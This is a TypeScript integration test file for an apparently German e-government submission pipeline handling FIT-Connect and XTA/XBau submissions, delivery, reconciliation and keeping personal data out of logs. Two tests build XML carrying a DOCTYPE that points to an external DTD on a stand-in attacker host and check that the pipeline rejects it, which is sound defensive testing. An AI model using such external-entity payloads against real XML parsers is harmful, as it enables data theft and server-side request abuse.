/**
 * The pipeline's stages called directly — processSubmission, each channel's open, deliverRoute and
 * reconcileOnce — against real PostgreSQL, Redis, blob store and DMS folder, without HTTP in between.
 * Submissions are put into the journal the way the channels' intake does; the FIT-Connect JWEs and the
 * OSCI content are made here with node:crypto from the published keys.
 */
import { randomBytes, randomUUID } from 'node:crypto';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { loadConfigFile } from '@weiche/config';
import { ErrorCode } from '@weiche/core';
import { openOsciKeystore } from '@weiche/crypto';
import { createHubDeps, createLogger, deliverRoute, FIT_CONNECT_CHANNEL, processSubmission, reconcileOnce, XTA_CHANNEL, type HubDeps } from '@weiche/hub';
import { deliverJobId, processJobId } from '@weiche/queue';
import { inspectContent } from '@weiche/xoev';
import { dropSchema, tempDir } from '../support/env.js';
import { receivedFitConnect as receivedFitConnectFor } from '../support/received-fit-connect.js';
import { writeXtaTestConfig, type XtaTestParties } from '../support/xta-config.js';
import { contentContainer, encryptFor, XBAU_NS, XBAU_SERVICE } from '../support/xta-sender.js';

const ATTEMPTS = { attemptsMade: 0, maxAttempts: 5 };

let deps: HubDeps;
let schema: string;
let parties: XtaTestParties;
let destinationId: string;
let clientId: string;
let outbox: string;

beforeAll(async () => {
  const dir = await tempDir('stages-');
  const written = await writeXtaTestConfig(dir);
  parties = written.parties;
  schema = written.cfg.schema;
  destinationId = written.cfg.destinationId;
  clientId = written.cfg.clientId;
  outbox = written.cfg.outbox;
  deps = await createHubDeps(loadConfigFile(written.cfg.file, {}), createLogger({ level: 'silent' }));
});
afterAll(async () => {
  await deps.close();
  await dropSchema(schema);
});

/** A FIT-Connect submission at RECEIVED, for this file's destination and client. */
const receivedFitConnect = (opts: { data: Buffer; attachment: Buffer; tamperDataHash?: boolean; filename?: string }): Promise<{ submissionId: string; caseId: string }> =>
  receivedFitConnectFor(deps, { destinationId, clientId, ...opts });

/** An XTA message as sendMessage leaves it at RECEIVED: the EncryptedData as received, MessageMetaData in channel_meta. */
async function receivedXta(message: Buffer, attachments: Array<{ data: Buffer; filename: string }> = []): Promise<string> {
  const files = deps.config.xta?.readers[0]?.keystore;
  const keystore = openOsciKeystore({ pkcs12: await readFile(files?.pkcs12File ?? ''), password: (await readFile(files?.passwordFile ?? '', 'utf8')).trim() });
  const certificatePem = keystore.entries[0]?.certificatePem ?? '';
  const plaintext = contentContainer({ data: message, contentType: 'application/xml', filename: 'antrag.xml' }, attachments.map((a) => ({ ...a, contentType: 'application/pdf' })));
  const encrypted = encryptFor(plaintext, certificatePem);
  const stored = await deps.blobs.put(Buffer.from(encrypted.encryptedData(encrypted.cipherValue.toString('base64'))));
  const submissionId = randomUUID();
  const messageId = `urn:de:xta:messageid:stages:${randomUUID()}`;
  const messageMetaData = {
    testMsg: false,
    deliveryAttributes: { origin: new Date().toISOString() },
    author: { type: 'xoev', value: parties.author.identifier },
    reader: { type: 'xoev', value: parties.reader },
    messageId,
    qualifier: { service: XBAU_SERVICE, businessScenario: { kind: 'undefined', value: 'XBAU' }, messageType: { code: 'baugenehmigung.antrag.0200', listUri: 'urn:de:payloadSchema:elementName', listVersionId: '1.0', payloadSchema: XBAU_NS } },
  };
  await deps.journal.createSubmission({
    submissionId,
    tenantId: 'testhausen',
    channel: XTA_CHANNEL,
    channelRef: messageId,
    channelMeta: { readerId: parties.reader, authorId: parties.author.identifier, messageMetaData, container: 'encrypted', mtom: false, containerBlobKey: stored.key },
    serviceIdentifier: XBAU_SERVICE,
    state: 'RECEIVED',
    actor: 'test',
  });
  return submissionId;
}

const xbau = (): Promise<Buffer> => readFile(join(import.meta.dirname, '..', '..', 'packages', 'mappings', 'xbau-passthrough', 'samples', 'minimal.input.xml'));

describe('channel.open', () => {
  it('FIT-Connect: decrypts, verifies every hash and keeps the JWE tags for the acknowledgement', async () => {
    const data = Buffer.from(JSON.stringify({ antrag: 'stages' }));
    const { submissionId } = await receivedFitConnect({ data, attachment: randomBytes(2048) });
    const row = await deps.journal.getSubmission(submissionId);
    const opened = await deps.channels.get(FIT_CONNECT_CHANNEL).open(row!);
    expect(opened.data?.content.equals(data)).toBe(true);
    expect(opened.attachments).toHaveLength(1);
    expect(opened.sender.name).toBe('Testportal');
    expect(opened.channelMeta).toMatchObject({ authenticationTags: { metadata: expect.any(String) as unknown, attachments: expect.any(Object) as unknown } });
  });

  it('FIT-Connect: takes the content facts in the verify pass, the same the mapping would read from the bytes it packages', async () => {
    // a PDF/A head and XMP identification, so format, version and PDF/A all have to come out of the pass
    const attachment = Buffer.concat([
      Buffer.from('%PDF-1.7\n<x:xmpmeta><pdfaid:part>2</pdfaid:part><pdfaid:conformance>b</pdfaid:conformance></x:xmpmeta>\n', 'latin1'),
      randomBytes(300_000),
    ]);
    const { submissionId } = await receivedFitConnect({ data: Buffer.from('{}'), attachment });
    const opened = await deps.channels.get(FIT_CONNECT_CHANNEL).open((await deps.journal.getSubmission(submissionId))!);
    const [a] = opened.attachments;
    expect(a?.facts).toMatchObject({ mimeType: 'application/pdf', pdfVersion: '1.7', pdfa: { part: '2', conformance: 'B' }, size: attachment.length });
    expect(a?.facts).toEqual(await inspectContent(attachment, a!.mimeType));
    expect(a?.facts).toEqual(await inspectContent(a!.open(), a!.mimeType));
  });

  it('FIT-Connect: a data hash that does not match is an input problem of stage open, part data', async () => {
    const { submissionId } = await receivedFitConnect({ data: Buffer.from('{}'), attachment: randomBytes(64), tamperDataHash: true });
    const row = await deps.journal.getSubmission(submissionId);
    await expect(deps.channels.get(FIT_CONNECT_CHANNEL).open(row!)).rejects.toMatchObject({ code: ErrorCode.HASH_MISMATCH, part: 'data', stage: 'open', retryable: false });
  });

  it('XTA: opens OSCI content with the reader keystore and names the author signature verdict', async () => {
    const submissionId = await receivedXta(await xbau(), [{ data: randomBytes(100), filename: 'plan.pdf' }]);
    const opened = await deps.channels.get(XTA_CHANNEL).open((await deps.journal.getSubmission(submissionId))!);
    expect(opened.data?.mimeType).toBe('application/xml');
    expect(opened.attachments.map((a) => a.filename)).toEqual(['plan.pdf']);
    expect(opened.evidence).toMatchObject({ container: 'encrypted', authorSignature: { present: false } });
    expect(opened.sender.behoerdenkennung).toBe(parties.author.identifier);
  });
});

describe('processSubmission and deliverRoute', () => {
  it('takes a FIT-Connect submission to ROUTED with its delivery job, then delivers and acknowledges it once', async () => {
    const { submissionId, caseId } = await receivedFitConnect({ data: Buffer.from(JSON.stringify({ antrag: 'ok' })), attachment: randomBytes(4096) });
    expect(await processSubmission({ submissionId }, deps, ATTEMPTS)).toBe('routed');
    const routed = await deps.journal.getSubmission(submissionId);
    expect(routed?.state).toBe('ROUTED');
    const [delivery] = await deps.journal.listDeliveries(submissionId);
    expect(delivery).toMatchObject({ routeId: 'to-dms', state: 'PENDING' });
    expect(await deps.queues.deliverQueue('dms').getJob(deliverJobId(submissionId, 'to-dms'))).toBeDefined();

    expect(await deliverRoute({ submissionId, routeId: 'to-dms' }, deps, ATTEMPTS)).toBe('delivered');
    const delivered = await deps.journal.getSubmission(submissionId);
    expect(delivered).toMatchObject({ state: 'DELIVERED', acknowledgedAt: expect.any(Date) as unknown });
    expect(await deps.journal.hasEvent(submissionId, 'accept-submission')).toBe(true);
    expect((await readdir(outbox)).filter((f) => f.startsWith(delivered?.prozessId ?? '-'))).toHaveLength(1);
    // a second run (a job re-run after a crash) delivers nothing new and sends no second event
    expect(await deliverRoute({ submissionId, routeId: 'to-dms' }, deps, ATTEMPTS)).toBe('duplicate');
    expect((await deps.journal.listEvents(caseId, { offset: 0, limit: 10 })).tokens).toHaveLength(1);
    const audit = await deps.journal.listAudit({ submissionId, limit: 50 });
    expect(audit.map((a) => a.stage)).toEqual(['intake', 'intake', 'open', 'map', 'route', 'deliver', 'deliver', 'acknowledge']);
  });

  it('rejects an input problem at once (no retry) with the deciding stage, and the channel tells the sender', async () => {
    const { submissionId } = await receivedFitConnect({ data: Buffer.from('{}'), attachment: randomBytes(64), tamperDataHash: true });
    expect(await processSubmission({ submissionId }, deps, ATTEMPTS)).toBe('rejected');
    const row = await deps.journal.getSubmission(submissionId);
    expect(row).toMatchObject({ state: 'REJECTED', problem: { code: ErrorCode.HASH_MISMATCH, stage: 'open', part: 'data' }, acknowledgedAt: expect.any(Date) as unknown });
    expect(await deps.journal.hasEvent(submissionId, 'reject-submission')).toBe(true);
  });

  it('XTA: an attachment the XBau message does not reference is delivered beside it and noted in the MAPPED audit record', async () => {
    const submissionId = await receivedXta(await xbau(), [{ data: randomBytes(300), filename: 'nicht-referenziert.pdf' }]);
    expect(await processSubmission({ submissionId }, deps, ATTEMPTS)).toBe('routed');
    const mapped = (await deps.journal.listAudit({ submissionId, limit: 20 })).find((a) => a.toState === 'MAPPED');
    const outputs = mapped?.details.outputs as Record<string, { notes?: string[] }>;
    expect(outputs['xbau-2.6:baugenehmigung.antrag.0200']?.notes?.[0]).toContain('not referenced by the XBau message');
  });

  it('XTA: a DOCTYPE in the XBau message is a syntax violation decided by the map stage, never forwarded', async () => {
    const hostile = Buffer.from((await xbau()).toString('utf8').replace(/^(<\?xml[^>]*\?>)?/, '$1<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">'));
    const submissionId = await receivedXta(hostile);
    expect(await processSubmission({ submissionId }, deps, ATTEMPTS)).toBe('rejected');
    expect(await deps.journal.getSubmission(submissionId)).toMatchObject({ state: 'REJECTED', problem: { code: ErrorCode.SYNTAX_VIOLATION, stage: 'map', part: 'data' } });
    expect(await deps.journal.listDeliveries(submissionId)).toEqual([]);
  });

  it('a submission without a route fails for an operator (stage route), it is not rejected', async () => {
    const { submissionId } = await receivedFitConnect({ data: Buffer.from('{}'), attachment: randomBytes(64) });
    const noRoutes = { ...deps, routing: { routesFor: () => [] } };
    expect(await processSubmission({ submissionId }, noRoutes, ATTEMPTS)).toBe('failed');
    expect(await deps.journal.getSubmission(submissionId)).toMatchObject({ state: 'FAILED', problem: { code: ErrorCode.NO_ROUTE, stage: 'route' } });
  });
});

describe('reconcileOnce', () => {
  it('re-enqueues a received submission that has no job, and acknowledges an outcome a crash left unacknowledged', async () => {
    const { submissionId } = await receivedFitConnect({ data: Buffer.from('{}'), attachment: randomBytes(64) });
    await (await deps.queues.process.getJob(processJobId(submissionId)))?.remove();
    // a finished submission whose acknowledgement never happened (the process died in between)
    const other = await receivedFitConnect({ data: Buffer.from('{}'), attachment: randomBytes(64), tamperDataHash: true });
    await deps.journal.transition(other.submissionId, { from: ['RECEIVED'], to: 'REJECTED', actor: 'test', stage: 'open', patch: { reason: 'x', problem: { code: ErrorCode.HASH_MISMATCH, stage: 'open', part: 'data', detail: 'x' } } });
    const reconcile = { ...deps, processing: { ...deps.config.processing, reconcileAfterMs: 0 } };
    expect(await reconcileOnce(reconcile)).toBeGreaterThanOrEqual(2);
    expect(await deps.queues.process.getJob(processJobId(submissionId))).toBeDefined();
    expect((await deps.journal.getSubmission(other.submissionId))?.acknowledgedAt).toBeInstanceOf(Date);
    expect(await deps.journal.hasEvent(other.submissionId, 'reject-submission')).toBe(true);
  });
});

// docs/conventions.md item 10: file names (the sender's), form contents and the reasons quoting them go to the
// sender and into the journal, never into the log, which names codes and ids
describe('personal data in the log', () => {
  const NAME = 'Mustermann-Erika-Geburtsurkunde.pdf';

  /** A logger at the lowest level whose lines the test reads (what the hub would print). */
  function capturedLog(): { log: HubDeps['log']; text: () => string } {
    const lines: string[] = [];
    return { log: createLogger({ level: 'trace', destination: { write: (line: string) => void lines.push(line) } }), text: () => lines.join('') };
  }

  it('a refusal naming the file (XBau pass-through, a DOCTYPE attachment) reaches the journal, not the log', async () => {
    const { log, text } = capturedLog();
    const withLog = { ...deps, log };
    // the XBau message names a document the sender did not send: xbau-passthrough refuses it by its name
    const message = Buffer.from((await readFile(join(import.meta.dirname, '..', '..', 'packages', 'mappings', 'xbau-passthrough', 'samples', 'einfamilienhaus.input.xml'), 'utf8')).replace('00000000-0000-4000-8000-000000000002_Bauantrag.pdf', NAME));
    const xta = await receivedXta(message, [{ data: Buffer.from('%PDF-1.7 Lageplan'), filename: '00000000-0000-4000-8000-000000000003_Lageplan_Größe_Straße.pdf' }, { data: Buffer.from('JPEG'), filename: '00000000-0000-4000-8000-000000000004_Ansicht Süd.jpg' }]);
    expect(await processSubmission({ submissionId: xta }, withLog, ATTEMPTS)).toBe('rejected');
    const xtaRow = await deps.journal.getSubmission(xta);
    expect(xtaRow).toMatchObject({ state: 'REJECTED', problem: { code: ErrorCode.ATTACHMENTS_MISMATCH } });
    expect(xtaRow?.reason).toContain(NAME);
    // a hostile attachment under that name
    const doctype = Buffer.from('<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x/>');
    const { submissionId: fit } = await receivedFitConnect({ data: Buffer.from('{"name":"Erika Mustermann"}'), attachment: doctype, filename: NAME });
    expect(await processSubmission({ submissionId: fit }, withLog, ATTEMPTS)).toBe('rejected');
    expect(await deps.journal.getSubmission(fit)).toMatchObject({ state: 'REJECTED', problem: { code: ErrorCode.SYNTAX_VIOLATION, stage: 'open' } });
    // the log did record both, by id and code
    for (const id of [xta, fit]) expect(text()).toMatch(new RegExp(`"submissionId":"${id}"[^\\n]*"code":"WEICHE_ERR_`));
    expect(text()).not.toContain('Mustermann');
  });

  it('a mapping failure quoting the file name fails for an operator, with the name in the journal, not in the log', async () => {
    const { log, text } = capturedLog();
    const generic = deps.mapper.registry.resolve({ schemaUri: 'urn:test:schema:1.0', target: 'xdomea-3.1.0:0401' });
    // a module's own error text is whatever it chose to say: here the sender's file name
    const quoting: typeof generic = { ...generic, inputSchema: z.unknown(), map: (_input, ctx) => Promise.reject(new Error(`cannot render ${ctx.attachments[0]?.filename ?? ''}`)) };
    const withLog = { ...deps, log, mapper: { ...deps.mapper, registry: { resolve: () => quoting } } };
    const { submissionId } = await receivedFitConnect({ data: Buffer.from('{}'), attachment: Buffer.from('%PDF-1.7 Urkunde'), filename: NAME });
    expect(await processSubmission({ submissionId }, withLog, ATTEMPTS)).toBe('failed');
    const row = await deps.journal.getSubmission(submissionId);
    expect(row).toMatchObject({ state: 'FAILED', problem: { code: ErrorCode.MAPPING_FAILED, stage: 'map' } });
    expect(row?.reason).toContain(NAME);
    expect(text()).toMatch(new RegExp(`"submissionId":"${submissionId}"[^\\n]*"code":"WEICHE_ERR_MAPPING_FAILED"`));
    expect(text()).not.toContain('Mustermann');
  });
});
